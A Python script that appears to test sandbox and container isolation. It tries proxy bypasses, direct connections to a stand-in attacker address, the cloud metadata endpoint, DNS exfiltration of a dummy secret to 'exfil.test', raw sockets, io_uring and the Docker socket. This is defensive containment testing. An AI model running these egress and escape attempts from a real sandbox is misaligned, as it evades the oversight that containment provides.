#!/usr/bin/python3
"""What a contained program can reach and do: one line a question, "NAME open|closed detail".

usage: probe.py KEY=VALUE...    gateway= host= docker0= peer_agent= peer_sidecar= sidecar= sidecar_outer= (addresses)
Only the standard library; it runs in native jails and in containers alike. HTTPS_PROXY is what the session set.
only=PREFIX asks the questions whose names start so.
"""
import base64
import concurrent.futures
import ctypes
import errno
import os
import re
import socket
import struct
import sys
import urllib.parse

TARGETS = dict(a.split("=", 1) for a in sys.argv[1:])
LIMIT_S = 1.5
POOL = concurrent.futures.ThreadPoolExecutor(64)
ATTEMPTS = []
EVIL = "93.184.216.66"


def say(name, is_open, detail=""):
    print(name, "open" if is_open else "closed", detail, flush=True)


def outcome(what):
    try:
        return True, what()
    except (OSError, ValueError) as e:
        return False, str(e).replace("\n", " ")[:100]


def attempt(name, what):
    """what() returns a detail when it got through, and raises OSError when not. All run side by side."""
    if name.startswith(TARGETS.get("only", "")):
        ATTEMPTS.append((name, POOL.submit(outcome, what)))


def tcp(address, port):
    return socket.create_connection((address, port), LIMIT_S)


def proxy():
    url = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", "http://127.0.0.1:8888"))
    return url.hostname, url.port, url.username, url.password


def connect(target, through=None, token=None):
    """CONNECT target; the status line."""
    host, port, user, password = proxy()
    s = tcp(through or host, port)
    head = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n"
    if token is None and user:
        token = base64.b64encode(f"{user}:{password}".encode()).decode()
    if token:
        head += f"Proxy-Authorization: Basic {token}\r\n"
    s.sendall((head + "\r\n").encode())
    answer = s.recv(4096).decode("latin-1")
    if not answer:
        raise OSError("closed without an answer")
    if " 200 " not in answer.split("\r\n", 1)[0]:
        raise OSError(answer.split("\r\n", 1)[0])
    return s


def through_proxy(target, **more):
    connect(target, **more).close()
    return "200"


def web(target):
    """The HTTP answer of target:80 through the proxy."""
    s = connect(target + ":80")
    s.sendall(f"GET / HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n".encode())
    got = b""
    while True:
        more = s.recv(4096)
        if not more:
            break
        got += more
    if b"hello from" not in got:
        raise OSError(got[:60].decode("latin-1"))
    return "served"


def direct(host, port):
    s = tcp(host, port)
    s.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host.encode())
    got = s.recv(4096)
    if not got:
        raise OSError("closed without an answer")
    if b" 403 " in got.split(b"\r\n")[0]:
        raise OSError("403")
    return got[:30].decode("latin-1").split("\r\n")[0]


def resolvers():
    with open("/etc/resolv.conf", encoding="ascii") as f:
        return re.findall(r"^nameserver\s+(\S+)", f.read(), re.M)


def ask_dns(server, name, kind=1):
    """Addresses in the answer to a question; an OSError for every other outcome."""
    q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(LIMIT_S)
    s.sendto(q, (server, 53))
    r = s.recv(4096)
    if r[3] & 15 or not struct.unpack("!H", r[6:8])[0]:
        raise OSError(f"rcode {r[3] & 15}, no answer")
    return socket.inet_ntoa(r[-4:]) if kind == 1 else "answered"


def udp(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    s.connect((address, port))
    s.send(b"out")
    try:
        s.recv(10)
    except TimeoutError:
        raise OSError("sent, nothing came back; the far log tells") from None
    return "answered"


def family(number, kind=socket.SOCK_STREAM, protocol=0):
    socket.socket(number, kind, protocol).close()
    return "socket made"


def capabilities():
    with open("/proc/self/status", encoding="ascii") as f:
        status = dict(re.findall(r"^(\w+):\t(.*)$", f.read(), re.M))
    bad = int(status["CapBnd"], 16) & (1 << 12 | 1 << 13 | 1 << 21)  # NET_ADMIN, NET_RAW, SYS_ADMIN
    if not bad and status["NoNewPrivs"] == "1":
        raise OSError(f"bounding set {status['CapBnd']}, no_new_privs")
    return f"bounding set {status['CapBnd']}, NoNewPrivs {status['NoNewPrivs']}"


def io_uring():
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(120)
    fd = libc.syscall(425, 4, buf)
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.close(fd)
    return "a ring was made"


def docker_socket():
    for path in ("/run/docker.sock", "/var/run/docker.sock"):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(path)
            return path
        except OSError as e:
            if e.errno not in (errno.ENOENT, errno.EACCES, errno.ECONNREFUSED):
                raise
    raise OSError("no such socket")


def interfaces6():
    try:
        with open("/proc/net/if_inet6", encoding="ascii") as f:
            others = [line.split()[0] for line in f if line.split()[5] != "lo"]
    except FileNotFoundError:
        others = []
    if not others:
        raise OSError("no IPv6 address but lo's")
    return others[0]


def main():
    t = TARGETS
    secret = "s3cret-" + t.get("name", "x")
    attempt("allowed-by-proxy", lambda: web("allowed.test"))
    attempt("allowed-without-proxy-variables", lambda: direct("allowed.test", 80))
    attempt("denied-name", lambda: through_proxy("evil.test:443"))
    attempt("other-port", lambda: through_proxy("allowed.test:25"))
    attempt("ip-literal-connect", lambda: through_proxy(f"{EVIL}:443"))
    attempt("metadata-by-proxy", lambda: through_proxy("169.254.169.254:80"))
    attempt("private-name-by-proxy", lambda: through_proxy("rebind.test:80"))
    attempt("proxy-wrong-token", lambda: through_proxy("allowed.test:80", token="ZHJ5ZG9jazp3cm9uZw=="))
    attempt("direct-tcp", lambda: direct(EVIL, 443))
    attempt("direct-tcp-22", lambda: direct(EVIL, 22))
    attempt("direct-tcp-to-allowed-address", lambda: direct("93.184.216.10", 80))
    attempt("metadata-direct", lambda: direct("169.254.169.254", 80))
    attempt("direct-udp-53", lambda: udp(EVIL, 53))
    attempt("direct-udp-443", lambda: udp(EVIL, 443))
    for server in resolvers() + ["127.0.0.11"]:
        attempt(f"dns-a-{server}", lambda s=server: ask_dns(s, secret + ".exfil.test"))
        attempt(f"dns-txt-{server}", lambda s=server: ask_dns(s, secret + ".exfil.test", 16))
    attempt("dns-direct", lambda: ask_dns("198.51.100.1", secret + ".exfil.test"))
    for key in ("gateway", "host", "docker0", "outer_gateway"):
        if key in t:
            attempt(f"host-by-{key}", lambda k=key: direct(t[k], 9999))
            attempt(f"dns-by-{key}", lambda k=key: ask_dns(t[k], secret + ".exfil.test"))
    if "peer_agent" in t:
        attempt("peer-agent", lambda: direct(t["peer_agent"], 7777))
    if "peer_sidecar" in t:
        attempt("peer-sidecar", lambda: through_proxy("allowed.test:80", through=t["peer_sidecar"]))
        attempt("peer-sidecar-no-token", lambda: through_proxy("allowed.test:80", through=t["peer_sidecar"], token=""))
    if "sidecar_outer" in t:
        attempt("sidecar-outer-leg", lambda: through_proxy("allowed.test:80", through=t["sidecar_outer"]))
    attempt("ipv6-address", interfaces6)
    attempt("ipv6-direct", lambda: direct("2606:2800:220:1::10", 80))
    attempt("af-packet", lambda: family(17, socket.SOCK_RAW, 0x0300))
    attempt("raw-socket", lambda: family(socket.AF_INET, socket.SOCK_RAW, 1))
    attempt("af-vsock", lambda: family(40))
    attempt("io-uring", io_uring)
    attempt("capabilities", capabilities)
    attempt("docker-socket", docker_socket)
    for name, done in ATTEMPTS:
        say(name, *done.result())


main()
